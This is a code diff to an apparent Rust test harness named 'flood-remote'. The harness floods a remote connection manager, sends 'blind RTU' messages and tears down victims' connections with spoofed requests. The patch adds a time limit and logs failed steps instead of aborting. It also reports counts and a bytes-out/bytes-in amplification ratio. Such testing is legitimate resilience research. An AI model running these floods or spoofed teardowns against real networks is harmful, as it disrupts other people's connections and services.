@@ -222,6 +222,7 @@ fn flood_reqs(
 struct Figures {
     ok: u64,
     times: Vec<Duration>,
+    blind: u64,
     reqs: u64,
     flood_secs: f64,
     teardown_ok: u64,
@@ -294,13 +295,27 @@ async fn run(o: &RemoteOpts) -> Result<()> {
     f.ok = held.len() as u64;
     f.times.sort();
 
-    // 2. Blind RTU. 3. Spoofed teardown (the victims held).
+    // 2. Blind RTU. 3. Spoofed teardown (the victims held). At most --secs for both; a
+    // connection of the victims' client that fails leaves that attempt out (said so).
     let mut victims = Vec::new();
+    let attacks_end = tokio::time::Instant::now() + Duration::from_secs_f64(o.secs);
     for i in 0..o.attacks {
-        let own = victim_cm
+        if tokio::time::Instant::now() >= attacks_end {
+            println!("flood-remote: --secs passed after {i} of {} attacks", o.attacks);
+            break;
+        }
+        let own = match victim_cm
             .connect(params(o, nth(o, k + 1)?.ip(), i, qpns.next()))
             .await
-            .map_err(|e| anyhow!("the attacker's own connection: {e}"))?;
+        {
+            Ok(c) => c,
+            Err(e) => {
+                println!("flood-remote: attack {i} left out: the attacker's own connection: {e}");
+                f.unready += 1;
+                continue;
+            }
+        };
+        f.blind += 1;
         let seen = own.rep().map(|r| r.rep.local_comm_id.0).unwrap_or(0);
         let my_id = CommId(0x7a00_0000 | i as u32);
         let spoofed = req(
@@ -322,10 +337,17 @@ async fn run(o: &RemoteOpts) -> Result<()> {
         }
         own.disconnect(&[]).await;
         let q = qpns.next();
-        let victim = victim_cm
+        let victim = match victim_cm
             .connect(params(o, nth(o, k + 1)?.ip(), 1000 + i, q))
             .await
-            .map_err(|e| anyhow!("a victim's connection: {e}"))?;
+        {
+            Ok(c) => c,
+            Err(e) => {
+                println!("flood-remote: victim {i} left out: its connection failed: {e}");
+                f.unready += 1;
+                continue;
+            }
+        };
         let Some(rep) = victim.rep() else {
             f.unready += 1;
             continue;
@@ -392,7 +414,7 @@ fn report(o: &RemoteOpts, f: &Figures, bytes_in: u64, bytes_out: u64) {
     );
     if f.unready > 0 {
         println!(
-            "flood-remote: {} victims had no REP and were not attacked",
+            "flood-remote: {} attack steps left out (their connection failed)",
             f.unready
         );
     }
@@ -408,7 +430,7 @@ fn report(o: &RemoteOpts, f: &Figures, bytes_in: u64, bytes_out: u64) {
         bytes_out as f64 / (bytes_in as f64).max(1.0),
         bytes_out,
         bytes_in,
-        o.attacks,
+        f.blind,
         f.teardown_ok,
         f.teardown,
         f.ok,
